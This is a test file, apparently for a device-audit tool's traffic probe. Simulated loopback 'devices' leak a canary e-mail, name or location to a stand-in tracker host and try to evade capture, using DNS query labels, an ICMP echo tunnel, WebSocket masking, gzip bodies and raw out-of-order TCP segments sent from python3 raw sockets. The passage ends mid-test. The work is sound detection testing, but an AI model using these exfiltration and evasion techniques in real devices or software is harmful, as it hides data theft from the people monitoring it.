/**
 * audit20live: hostile or merely messy loopback "devices" against the traffic probe (a real tcpdump/dumpcap capture of `lo`,
 * dissected by tshark) and its four checks. The device is 127.0.20.2, its cloud 127.0.20.3 (and 127.0.20.4), an
 * undeclared tracker 127.0.20.9; the bench's control listener is on the device address. Every test asserts the
 * CORRECT verdict: a test that fails shows starbench saying `pass` (or crashing, or keeping a canary) where it
 * should not. Tests named "right:" are cases starbench already gets right (kept as regressions); tests named "BUG:"
 * failed against commit 3c1dfd0. Where the true verdict is fail but a fix could honestly answer inconclusive, the
 * test asserts only "not pass". Only loopback is used; every device behaviour is bounded in count and time.
 * Raw packets (out-of-order and collapsed TCP segments, ICMP) are sent with python3 raw sockets, as root.
 */
import { execFileSync, spawn } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { chmodSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import http2 from 'node:http2';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Duplex } from 'node:stream';
import tls from 'node:tls';
import { gzipSync } from 'node:zlib';
import { probeContext } from '../cli/standalone';
import { judgeCheck } from '../harness/judge';
import { validateProbeResult } from '../harness/facts';
import type { DeviceFileInput } from '../harness/device-file/schema';
import type { TrafficCapture, TrafficDestination } from '../harness/traffic';
import type { CheckResult, ProbeResult } from '../harness/types';
import { CHECKS } from '../profiles/checks';
import { PROBES } from '../probes';
import { trafficProbe } from '../probes/traffic';
import { dissect } from '../probes/traffic/dissect';
import { runMitm } from '../probes/traffic/mitm';
import { deviceFrom } from './helpers/device';

jest.setTimeout(30_000);

const D = '127.0.20.2';
const C = '127.0.20.3';
const C2 = '127.0.20.4';
const T = '127.0.20.9';
const CANARY = 'hanako.traffic.canary@example.jp';
const NAME = 'Hanako Yamada';
const KANJI = '山田花子';
const LOCATION = '35.6812,139.7671';
const IDS = ['comms.outbound-plaintext', 'comms.outbound-tls', 'comms.certificate-validation', 'privacy.destinations'] as const;

const sleep = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

function listen(server: net.Server | dgram.Socket, port: number, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    if (server instanceof dgram.Socket) {
      server.once('error', reject);
      server.bind(port, host, () => resolve(server.address().port));
    } else {
      server.once('error', reject);
      server.listen(port, host, () => resolve((server.address() as net.AddressInfo).port));
    }
  });
}

const closers: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  while (closers.length) await closers.pop()!();
});

function keep<S extends net.Server | dgram.Socket>(s: S): S {
  closers.push(
    () =>
      new Promise<void>((r) => {
        if (s instanceof dgram.Socket) s.close(() => r());
        else {
          (s as net.Server & { closeAllConnections?: () => void }).closeAllConnections?.();
          s.close(() => r());
        }
      }),
  );
  return s;
}

/** A TCP "cloud" that reads everything and closes after a while (optionally answering the first chunk). */
async function sink(host: string, port = 0, answer?: (chunk: Buffer, s: net.Socket) => void): Promise<number> {
  const sockets = new Set<net.Socket>();
  const server = net.createServer((s) => {
    sockets.add(s);
    s.on('error', () => undefined);
    s.on('data', (c) => answer?.(c, s));
    s.on('close', () => sockets.delete(s));
    setTimeout(() => s.destroy(), 2500).unref();
  });
  closers.push(() => {
    for (const s of sockets) s.destroy();
  });
  return listen(keep(server), port, host);
}

/** The device opens a connection from D and writes each chunk (gap ms apart); bounded. */
async function sendTcp(
  host: string,
  port: number,
  chunks: Array<string | Buffer>,
  o: { gap?: number; localPort?: number; linger?: number } = {},
): Promise<void> {
  const s = net.connect({ host, port, localAddress: D, ...(o.localPort ? { localPort: o.localPort } : {}) });
  s.setNoDelay(true);
  s.on('error', () => undefined);
  s.on('data', () => undefined);
  const kill = setTimeout(() => s.destroy(), 4000);
  try {
    await new Promise<void>((resolve, reject) => {
      s.once('connect', resolve);
      s.once('error', reject);
    });
    for (const c of chunks) {
      s.write(c);
      await sleep(o.gap ?? 60);
    }
    await sleep(o.linger ?? 200);
  } finally {
    clearTimeout(kill);
    s.destroy();
  }
}

async function sendUdp(host: string, port: number, msgs: Buffer[], localPort = 0): Promise<void> {
  const u = dgram.createSocket('udp4');
  await listen(u, localPort, D);
  try {
    for (const m of msgs) {
      await new Promise<void>((r) => u.send(m, port, host, () => r()));
      await sleep(30);
    }
  } finally {
    u.close();
  }
}

/** A TLS ClientHello of the device's own making (no library would offer SSLv3 any more). */
function clientHello(o: { version: number; record?: number; suites: number[]; name?: string; dtls?: boolean; extensions?: Buffer[] }): Buffer {
  const ext = (type: number, body: Buffer): Buffer => {
    const b = Buffer.alloc(4);
    b.writeUInt16BE(type, 0);
    b.writeUInt16BE(body.length, 2);
    return Buffer.concat([b, body]);
  };
  const exts: Buffer[] = [...(o.extensions ?? [])];
  if (o.name) {
    const n = Buffer.from(o.name);
    const e = Buffer.alloc(5);
    e.writeUInt16BE(n.length + 3, 0);
    e[2] = 0;
    e.writeUInt16BE(n.length, 3);
    exts.unshift(ext(0, Buffer.concat([e, n])));
  }
  const extBytes = Buffer.concat(exts);
  const extLen = Buffer.alloc(2);
  extLen.writeUInt16BE(extBytes.length);
  const s = Buffer.alloc(2 + o.suites.length * 2);
  s.writeUInt16BE(o.suites.length * 2, 0);
  o.suites.forEach((c, i) => s.writeUInt16BE(c, 2 + 2 * i));
  const v = Buffer.alloc(2);
  v.writeUInt16BE(o.version);
  const body = Buffer.concat([
    v,
    randomBytes(32),
    Buffer.from([0]),
    ...(o.dtls ? [Buffer.from([0])] : []),
    s,
    Buffer.from([1, 0]),
    ...(extBytes.length ? [extLen, extBytes] : []),
  ]);
  let hs: Buffer;
  if (o.dtls) {
    hs = Buffer.alloc(12);
    hs[0] = 1;
    hs.writeUIntBE(body.length, 1, 3);
    hs.writeUInt16BE(0, 4);
    hs.writeUIntBE(0, 6, 3);
    hs.writeUIntBE(body.length, 9, 3);
  } else {
    hs = Buffer.alloc(4);
    hs[0] = 1;
    hs.writeUIntBE(body.length, 1, 3);
  }
  const msg = Buffer.concat([hs, body]);
  let rec: Buffer;
  if (o.dtls) {
    rec = Buffer.alloc(13);
    rec[0] = 0x16;
    rec.writeUInt16BE(o.record ?? o.version, 1);
    rec.writeUIntBE(0, 3, 6);
    rec.writeUInt16BE(0, 3);
    rec.writeUInt16BE(msg.length, 11);
  } else {
    rec = Buffer.alloc(5);
    rec[0] = 0x16;
    rec.writeUInt16BE(o.record ?? o.version, 1);
    rec.writeUInt16BE(msg.length, 3);
  }
  return Buffer.concat([rec, msg]);
}

/** A modern TLS 1.3 client (Node's own) to a declared cloud: the "good" connection beside the bad one. */
async function goodTls(host: string, port: number, servername: string): Promise<void> {
  const raw = net.connect({ host, port, localAddress: D });
  raw.on('error', () => undefined);
  const c = tls.connect({ socket: raw, servername, minVersion: 'TLSv1.3' });
  c.on('error', () => undefined);
  await sleep(300);
  c.destroy();
  raw.destroy();
}

/** A DNS message: a query (answers empty) or a response with A records. */
function dnsMessage(name: string, answers: string[] = [], id = 0x1234): Buffer {
  const qname = Buffer.concat([...name.split('.').map((l) => Buffer.concat([Buffer.from([Buffer.byteLength(l)]), Buffer.from(l)])), Buffer.from([0])]);
  const header = Buffer.alloc(12);
  header.writeUInt16BE(id, 0);
  header.writeUInt16BE(answers.length ? 0x8180 : 0x0100, 2);
  header.writeUInt16BE(1, 4);
  header.writeUInt16BE(answers.length, 6);
  const q = Buffer.concat([qname, Buffer.from([0, 1, 0, 1])]);
  const an = answers.map((a) => Buffer.concat([Buffer.from([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]), Buffer.from(a.split('.').map(Number))]));
  return Buffer.concat([header, q, ...an]);
}

/** A DNS server on C:53 answering each name from a table (and nothing else). */
async function dnsServer(table: Record<string, string[]>): Promise<void> {
  const u = keep(dgram.createSocket('udp4'));
  u.on('message', (m, r) => {
    let i = 12;
    const labels: string[] = [];
    while (i < m.length && m[i] !== 0 && labels.length < 20) {
      labels.push(m.subarray(i + 1, i + 1 + m[i]).toString());
      i += m[i] + 1;
    }
    const name = labels.join('.').toLowerCase();
    u.send(dnsMessage(name, table[name] ?? [], m.readUInt16BE(0)), r.port, r.address);
  });
  await listen(u, 53, C);
}

/** The device resolves a name through C:53 and waits for the answer. */
async function resolve(name: string): Promise<void> {
  const u = dgram.createSocket('udp4');
  await listen(u, 0, D);
  await new Promise<void>((r) => {
    const t = setTimeout(r, 500);
    u.once('message', () => {
      clearTimeout(t);
      r();
    });
    u.send(dnsMessage(name, [], Math.floor(Math.random() * 65535)), 53, C);
  });
  u.close();
}

/** Raw IPv4/TCP packets of the device's own making (python3, IP_HDRINCL): what a real stack sends on a lossy link. */
function rawTcp(packets: Array<{ src: string; dst: string; sp: number; dp: number; seq: number; ack?: number; flags: number; data?: string }>): Promise<void> {
  const py = `
import socket, struct, sys, json, time
def csum(b):
    if len(b) % 2: b += b'\\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return (~s) & 0xffff
def pkt(src, dst, sp, dp, seq, ack, flags, data):
    tcp = struct.pack('!HHIIBBHHH', sp, dp, seq, ack, 5 << 4, flags, 65535, 0, 0)
    ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack('!BBH', 0, 6, len(tcp) + len(data))
    c = csum(ph + tcp + data); tcp = tcp[:16] + struct.pack('!H', c) + tcp[18:]
    ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp) + len(data), 0, 0x4000, 64, 6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
    return ip + tcp + data
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
for p in json.loads(sys.argv[1])[:20]:
    s.sendto(pkt(p['src'], p['dst'], p['sp'], p['dp'], p['seq'], p.get('ack', 0), p['flags'], bytes.fromhex(p.get('data', ''))), (p['dst'], 0))
    time.sleep(0.03)
`;
  return new Promise((resolve, reject) => {
    const child = spawn('python3', ['-c', py, JSON.stringify(packets)], { stdio: ['ignore', 'ignore', 'pipe'], timeout: 5000 });
    let err = '';
    child.stderr.on('data', (c) => (err += c));
    child.once('close', (code) => (code === 0 ? resolve() : reject(new Error(`python3: ${err}`))));
  });
}

/** One raw ICMP echo request from the device with its own payload (ping -p, or any ICMP tunnel). */
function rawIcmp(src: string, dst: string, payload: string): Promise<void> {
  const py = `
import socket, struct, sys
def csum(b):
    if len(b) % 2: b += b'\\0'
    s = sum(struct.unpack('!%dH' % (len(b) // 2), b)); s = (s >> 16) + (s & 0xffff); s += s >> 16; return (~s) & 0xffff
src, dst, data = sys.argv[1], sys.argv[2], sys.argv[3].encode()
icmp = struct.pack('!BBHHH', 8, 0, 0, 0x4242, 1) + data
icmp = icmp[:2] + struct.pack('!H', csum(icmp)) + icmp[4:]
ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(icmp), 0, 0x4000, 64, 1, 0, socket.inet_aton(src), socket.inet_aton(dst))
ip = ip[:10] + struct.pack('!H', csum(ip)) + ip[12:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.sendto(ip + icmp, (dst, 0))
`;
  return new Promise((resolve, reject) => {
    const child = spawn('python3', ['-c', py, src, dst, payload], { stdio: ['ignore', 'ignore', 'pipe'], timeout: 5000 });
    let err = '';
    child.stderr.on('data', (c) => (err += c));
    child.once('close', (code) => (code === 0 ? resolve() : reject(new Error(`python3: ${err}`))));
  });
}

interface Outcome {
  result: ProbeResult;
  v: Record<(typeof IDS)[number], CheckResult>;
  cap: TrafficCapture;
  dests: TrafficDestination[];
  pcap: string;
}

function completed(observations: ProbeResult['observations']): ProbeResult {
  return { probe: 'traffic', status: 'completed', startedAt: new Date().toISOString(), durationMs: 1, observations, evidence: [] };
}

/**
 * Run the real traffic probe on lo with the device file given, start the device's behaviour `at` ms after the probe
 * (the capture is up by then), and judge the four checks as the runner would (observations validated first).
 */
async function watch(o: {
  seconds?: number;
  at?: number;
  traffic?: Record<string, unknown>;
  personalData?: DeviceFileInput['personalData'];
  /** Run before the probe starts (a connection the device holds open from before the watch). */
  before?: () => Promise<void>;
  act: () => Promise<void>;
}): Promise<Outcome> {
  // dumpcap says "Capturing on" a moment before it really captures (about 1 run in 30 misses the bench's control SYN, so
  // every check is inconclusive): such a run is tried once more, so that each test judges a capture that worked.
  for (let attempt = 1; ; attempt++) {
    const out = await watchOnce(o);
    if (out.cap.control.seen || attempt === 2) {
      expect({ control: out.cap.control, error: out.cap.error }).toEqual({ control: expect.objectContaining({ seen: true }), error: undefined });
      return out;
    }
  }
}

async function watchOnce(o: Parameters<typeof watch>[0]): Promise<Outcome> {
  const control = keep(net.createServer((s) => s.destroy()));
  const controlPort = await listen(control, 0, D);
  const device = deviceFrom({
    device: { name: 'hostile-traffic' },
    target: { host: D },
    services: [{ port: controlPort, protocol: 'other' }],
    personalData: o.personalData ?? { declared: ['email'], canaries: { email: CANARY } },
    traffic: { interface: 'lo', seconds: o.seconds ?? 3, declaredDestinations: [`*.cloud.example`, `${C}`, `${C2}`], ...o.traffic },
  } as DeviceFileInput);
  const ctx = await probeContext(device);
  await o.before?.();
  const running = trafficProbe.run(ctx);
  await sleep(o.at ?? 800);
  let actError: unknown;
  const acting = o.act().catch((e) => (actError = e));
  const raw = await running;
  await acting;
  if (actError) throw actError;
  const result = validateProbeResult(completed(raw.observations), trafficProbe.facts);
  const v = {} as Outcome['v'];
  for (const id of IDS) v[id] = judgeCheck(id, { device, checks: CHECKS, probes: PROBES, results: new Map([['traffic', result]]), reveal: false });
  const cap = raw.observations.find((x) => x.kind === 'traffic-capture')!.data as TrafficCapture;
  // Without a run folder the probe keeps its pcap in a temporary folder of its own: removed after the test.
  if (cap.pcap && path.basename(path.dirname(cap.pcap)).startsWith('starbench-traffic-'))
    closers.unshift(() => rmSync(path.dirname(cap.pcap!), { recursive: true, force: true }));
  const dests = raw.observations.filter((x) => x.kind === 'traffic-destination').map((x) => x.data as TrafficDestination);
  return { result, v, cap, dests, pcap: cap.pcap! };
}

const verdict = (out: Outcome, id: (typeof IDS)[number]): string => out.v[id].verdict;
const why = (out: Outcome, id: (typeof IDS)[number]): string => `${out.v[id].verdict}: ${out.v[id].rationale}`;

describe('comms.outbound-plaintext: the canary really crossed in clear, so the verdict is fail', () => {
  it('right: the canary sent byte by byte (Nagle off), one TCP segment per byte, in an HTTP header', async () => {
    const port = await sink(C);
    const req = `GET /ping HTTP/1.1\r\nHost: api.cloud.example\r\nX-Owner: ${CANARY}\r\n\r\n`;
    const out = await watch({
      act: () => sendTcp(C, port, [...req], { gap: 5 }),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });

  it('right: in the URL query (percent-encoded), in a Cookie, and base64 in JSON', async () => {
    const port = await sink(C);
    const b64 = Buffer.from(JSON.stringify({ u: CANARY })).toString('base64');
    for (const [name, req] of [
      ['query', `GET /p?e=${encodeURIComponent(CANARY)} HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n`],
      ['cookie', `GET /p HTTP/1.1\r\nHost: api.cloud.example\r\nCookie: sid=1; owner=${CANARY}\r\n\r\n`],
      ['base64', `POST /p HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: ${b64.length + 8}\r\n\r\n{"d":"${b64}"}`],
    ]) {
      const out = await watch({ seconds: 2, act: () => sendTcp(C, port, [req]) });
      expect({ name, v: why(out, 'comms.outbound-plaintext') }).toEqual({ name, v: expect.stringMatching(/^fail: .*personal-data email/) });
    }
  });

  it('right: over UDP to an unusual port, and HTTP on an unusual port', async () => {
    const port = await sink(C);
    const out = await watch({
      act: async () => {
        await sendUdp(C, 40123, [Buffer.from(`{"owner":"${CANARY}"}`)]);
        await sendTcp(C, port, [`POST /u HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: 2\r\n\r\nhi`]);
      },
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
    expect(out.dests.find((d) => d.transport === 'udp')!.clear.map((c) => c.name)).toContain('email');
  });

  it('BUG (tcpdump now preferred): a device that phones home only after 2.5 s of a 3 s window is still seen', async () => {
    const port = await sink(C);
    const out = await watch({ seconds: 3, at: 2500, act: () => sendTcp(C, port, [`GET /late?o=${CANARY} HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n`]) });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });

  it('BUG: a name canary form-encoded the way browsers and URLSearchParams write it (space as "+")', async () => {
    const port = await sink(C);
    const body = new URLSearchParams({ owner: NAME, plan: 'basic' }).toString(); // owner=Hanako+Yamada&plan=basic
    const out = await watch({
      personalData: { declared: ['name'], canaries: { name: NAME } },
      act: () =>
        sendTcp(C, port, [
          `POST /register HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`,
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data name/);
  });

  it('BUG: a location canary percent-encoded in lower case (%2c), as many encoders write it', async () => {
    const port = await sink(C);
    const q = LOCATION.replace(',', '%2c');
    const out = await watch({
      personalData: { declared: ['location'], canaries: { location: LOCATION } },
      act: () => sendTcp(C, port, [`GET /geo?ll=${q} HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n`]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data location/);
  });

  it('BUG: the e-mail canary in a DNS query name (label-encoded on the wire: the dots become length bytes)', async () => {
    const port = await sink(C);
    const out = await watch({
      act: async () => {
        await sendUdp(C, 53, [dnsMessage(CANARY)]);
        await sendTcp(C, port, [`GET /ok HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n`]);
      },
    });
    // tshark itself names the query: it is in the capture fact, so the bench saw it.
    expect(out.cap.dnsQueries.map((q) => q.name)).toContain(CANARY);
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });
});

describe('comms.outbound-plaintext: encodings and framings the byte search does not see', () => {
  it('BUG: the canary in a WebSocket text frame (RFC 6455: a client masks every frame with a 4-byte XOR key)', async () => {
    const port = await sink(C, 0, (c, s) => {
      if (/Upgrade: websocket/i.test(c.toString('latin1')))
        s.write('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n');
    });
    const key = randomBytes(4);
    const payload = Buffer.from(JSON.stringify({ owner: CANARY }));
    const frame = Buffer.concat([Buffer.from([0x81, 0x80 | payload.length]), key, Buffer.from(payload.map((b, i) => b ^ key[i % 4]))]);
    const out = await watch({
      act: () =>
        sendTcp(
          C,
          port,
          [
            'GET /ws HTTP/1.1\r\nHost: api.cloud.example\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n',
            frame,
          ],
          { gap: 150 },
        ),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^(fail: .*personal-data email|inconclusive: .*could not all be read)/);
  });

  it('BUG: the canary in an HTTP/2 cleartext (h2c) header: HPACK Huffman-codes it', async () => {
    const server = keep(http2.createServer());
    server.on('stream', (st) => {
      st.respond({ ':status': 200 });
      st.end('ok');
    });
    server.on('error', () => undefined);
    const port = await listen(server as unknown as net.Server, 0, C);
    const out = await watch({
      act: async () => {
        const client = http2.connect(`http://api.cloud.example:${port}`, { createConnection: () => net.connect({ host: C, port, localAddress: D }) });
        client.on('error', () => undefined);
        await new Promise<void>((r) => {
          const t = setTimeout(r, 1500);
          const req = client.request({ ':path': '/v1/register', 'x-owner': CANARY });
          req.on('error', () => undefined);
          req.on('response', () => undefined);
          req.resume();
          req.on('close', () => {
            clearTimeout(t);
            r();
          });
          req.end();
        });
        client.destroy();
      },
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^(fail: .*personal-data email|inconclusive: .*could not all be read)/);
  });

  it('BUG: a gzip-compressed binary body (protobuf-like, a NUL byte before the canary): tshark prints http.file_data only up to the NUL', async () => {
    const port = await sink(C);
    const body = Buffer.concat([Buffer.from([0x08, 0x00, 0x12, CANARY.length]), Buffer.from(CANARY)]);
    const gz = gzipSync(body);
    const out = await watch({
      act: () =>
        sendTcp(C, port, [
          Buffer.concat([
            Buffer.from(
              `POST /v1/owner HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Type: application/x-protobuf\r\nContent-Encoding: gzip\r\nContent-Length: ${gz.length}\r\n\r\n`,
            ),
            gz,
          ]),
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^(fail: .*personal-data email|inconclusive: .*could not all be read)/);
  });

  it('BUG: a Japanese name canary (山田花子) in a gzip-compressed JSON body: tshark prints non-ASCII bytes of http.file_data as U+FFFD', async () => {
    const port = await sink(C);
    const gz = gzipSync(Buffer.from(JSON.stringify({ owner: KANJI })));
    const out = await watch({
      personalData: { declared: ['name'], canaries: { name: KANJI } },
      act: () =>
        sendTcp(C, port, [
          Buffer.concat([
            Buffer.from(
              `POST /v1/owner HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${gz.length}\r\n\r\n`,
            ),
            gz,
          ]),
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^(fail: .*personal-data name|inconclusive: .*could not all be read)/);
  });

  it('BUG: a gzip file uploaded as such (Content-Type: application/gzip, no Content-Encoding): compressed is not encrypted', async () => {
    const port = await sink(C);
    const gz = gzipSync(Buffer.from(`2026-01-01 owner=${CANARY} uploaded log\n`));
    const out = await watch({
      act: () =>
        sendTcp(C, port, [
          Buffer.concat([
            Buffer.from(`POST /v1/logs HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Type: application/gzip\r\nContent-Length: ${gz.length}\r\n\r\n`),
            gz,
          ]),
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^(fail: .*personal-data email|inconclusive: .*could not all be read)/);
  });

  it('BUG: the e-mail canary in upper case (the same address: e-mail domains are case-insensitive, and devices upper-case fields)', async () => {
    const port = await sink(C);
    const out = await watch({ act: () => sendTcp(C, port, [`GET /p HTTP/1.1\r\nHost: api.cloud.example\r\nX-Owner: ${CANARY.toUpperCase()}\r\n\r\n`]) });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });
});

describe('comms.outbound-plaintext: bytes the dissection silently leaves out', () => {
  it('BUG: the canary after 1.1 MB of other data on the same connection (FLOW_KEPT): not searched, yet the check passes', async () => {
    const port = await sink(C);
    const pad = Buffer.alloc(1_100_000, 0x78);
    const body = Buffer.concat([pad, Buffer.from(`&owner=${CANARY}`)]);
    const whole = Buffer.concat([Buffer.from(`POST /v1/snapshot HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: ${body.length}\r\n\r\n`), body]);
    const chunks: Buffer[] = [];
    for (let i = 0; i < whole.length; i += 32_768) chunks.push(whole.subarray(i, i + 32_768));
    // Paced (32 KiB every 10 ms) so that the capture drops nothing: the whole upload is in the pcap.
    const out = await watch({ act: () => sendTcp(C, port, chunks, { gap: 10, linger: 300 }) });
    expect({ truncated: out.cap.truncated, dropped: out.cap.dropped ?? 0 }).toEqual({ truncated: false, dropped: 0 });
    // The truth is fail; at the very least the bench must not pass on bytes it never searched.
    expect(verdict(out, 'comms.outbound-plaintext')).not.toBe('pass');
  });

  it('BUG: a frame longer than the 65535-byte snap length (a 64 KiB segment, as GRO/TSO make them) loses its tail, canary and all', async () => {
    const port = await sink(C);
    const last = Buffer.alloc(65483, 0x42);
    Buffer.from(CANARY).copy(last, last.length - CANARY.length);
    const out = await watch({
      act: async () => {
        const s = net.connect({ host: C, port, localAddress: D });
        s.setNoDelay(true);
        s.on('error', () => undefined);
        const kill = setTimeout(() => s.destroy(), 4000);
        await new Promise<void>((r) => s.once('connect', () => r()));
        // Open the window first, then one write that the kernel sends as one full-size (MSS 65483) segment.
        await new Promise<void>((r) => s.write(Buffer.alloc(400_000, 0x41), () => r()));
        await sleep(50);
        s.write(last);
        await sleep(300);
        clearTimeout(kill);
        s.destroy();
      },
    });
    const big = Number(
      execFileSync('tshark', ['-r', out.pcap, '-T', 'fields', '-e', 'frame.len', '-Y', 'frame.len > frame.cap_len'], { stdio: ['ignore', 'pipe', 'ignore'] })
        .toString()
        .trim()
        .split('\n')
        .filter(Boolean).length,
    );
    // The snap length (262144) keeps a 64 KiB segment whole: nothing is cut, and the canary at its end is found.
    expect(big).toBe(0);
    // fail (the canary found), or inconclusive when the bench dropped packets of the 400 KB burst: never pass.
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^(fail|inconclusive)/);
  });

  it("BUG: a connection the device opened before the watch (from a port below the cloud's): its bytes are never searched and its destination never listed", async () => {
    const trackerPort = 62000 + Math.floor(Math.random() * 3000);
    const tport = await sink(T, trackerPort);
    const cport = await sink(C);
    let held: net.Socket | undefined;
    const out = await watch({
      before: async () => {
        held?.destroy();
        held = net.connect({ host: T, port: tport, localAddress: D, localPort: 20000 + Math.floor(Math.random() * 5000) });
        held.on('error', () => undefined);
        await new Promise<void>((r) => held!.once('connect', () => r()));
        closers.push(() => void held?.destroy());
      },
      act: async () => {
        held!.write(`{"owner":"${CANARY}"}\n`);
        await sendTcp(C, cport, ['GET /status HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n']);
      },
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
    expect(why(out, 'privacy.destinations')).toMatch(/^fail: .*127\.0\.20\.9/);
  });

  it("BUG: a UDP exchange in which the cloud speaks first in the window (a poll, CoAP observe): the device's answer is never searched", async () => {
    const cloud = keep(dgram.createSocket('udp4'));
    await listen(cloud, 0, C2);
    const cport = await sink(C);
    const dev = keep(dgram.createSocket('udp4'));
    const devPort = await listen(dev, 0, D);
    dev.on('message', (m, r) => {
      if (m.toString() === 'poll') dev.send(`{"owner":"${CANARY}"}`, r.port, r.address);
    });
    const out = await watch({
      act: async () => {
        cloud.send('poll', devPort, D);
        await sleep(200);
        await sendTcp(C, cport, ['GET /status HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n']);
      },
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });

  it('BUG: segments captured out of order (lost before the bench, retransmitted): the payload is joined in capture order', async () => {
    const msg = Buffer.from(`{"owner":"${CANARY}"}\n`);
    const cut = 20;
    const sp = 50000 + Math.floor(Math.random() * 5000);
    const dp = 9000 + Math.floor(Math.random() * 500);
    const base = { src: D, dst: C, sp, dp };
    const out = await watch({
      act: () =>
        rawTcp([
          { ...base, seq: 1000, flags: 0x02 },
          { ...base, seq: 1001 + cut, flags: 0x18, data: msg.subarray(cut).toString('hex') },
          { ...base, seq: 1001, flags: 0x18, data: msg.subarray(0, cut).toString('hex') },
        ]),
    });
    expect(out.cap.deviceFlows).toBeGreaterThan(0);
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });

  it('BUG: a retransmission that carries more bytes at the same sequence number (Linux collapses segments when it retransmits)', async () => {
    const msg = Buffer.from(`{"owner":"${CANARY}"}\n`);
    const sp = 50000 + Math.floor(Math.random() * 5000);
    const dp = 9000 + Math.floor(Math.random() * 500);
    const base = { src: D, dst: C, sp, dp };
    const out = await watch({
      act: () =>
        rawTcp([
          { ...base, seq: 2000, flags: 0x02 },
          { ...base, seq: 2001, flags: 0x18, data: msg.subarray(0, 12).toString('hex') },
          { ...base, seq: 2001, flags: 0x18, data: msg.toString('hex') },
        ]),
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
  });

  it('BUG: the canary in an ICMP echo payload to an undeclared host (an ICMP tunnel): neither searched nor a destination', async () => {
    const cport = await sink(C);
    const out = await watch({
      act: async () => {
        await rawIcmp(D, T, `owner=${CANARY}`);
        await sendTcp(C, cport, ['GET /status HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n']);
      },
    });
    expect(why(out, 'comms.outbound-plaintext')).toMatch(/^fail: .*personal-data email/);
    expect(verdict(out, 'privacy.destinations')).toBe('fail');
  });

  it('BUG: not a pass on nothing: the only connection the device opened sent its bytes after the window closed', async () => {
    const port = await sink(C);
    const out = await watch({
      seconds: 3,
      at: 1800,
      // Connects well inside the window, writes 3.5 s later, after the capture has stopped.
      act: () =>
        sendTcp(C, port, ['', `POST /late HTTP/1.1\r\nHost: api.cloud.example\r\nContent-Length: ${CANARY.length}\r\n\r\n${CANARY}`], {
          // After the window and the capture's drain (0.7 s): written once the capture has stopped.
          gap: 3500,
          linger: 100,
        }),
    });
    expect(out.cap.deviceFlows).toBe(1);
    expect(out.dests.flatMap((d) => d.clear)).toEqual([]);
    expect(verdict(out, 'comms.outbound-plaintext')).not.toBe('pass');
  });
});

describe('the end of the window: what the device sends in its last second', () => {
  it('BUG: an undeclared tracker contacted (with the canary) 0.5 s before the window ends is lost: the capture tool is stopped before it has read its last packets', async () => {
    const cport = await sink(C);
    const tport = await sink(T);
    const out = await watch({
      seconds: 3,
      at: 800,
      act: async () => {
        await sendTcp(C, cport, ['GET /status HTTP/1.1\r\nHost: api.cloud.example\r\n\r\n'], { linger: 50 });
        await sleep(3000 - 800 - 500 - 300);
        await sendTcp(T, tport, [`POST /t HTTP/1.1\r\nHost: metrics.tracker.example\r\nContent-Length: ${CANARY.length}\r\n\r\n${CANARY}`], { linger: 50 });
      },
    });
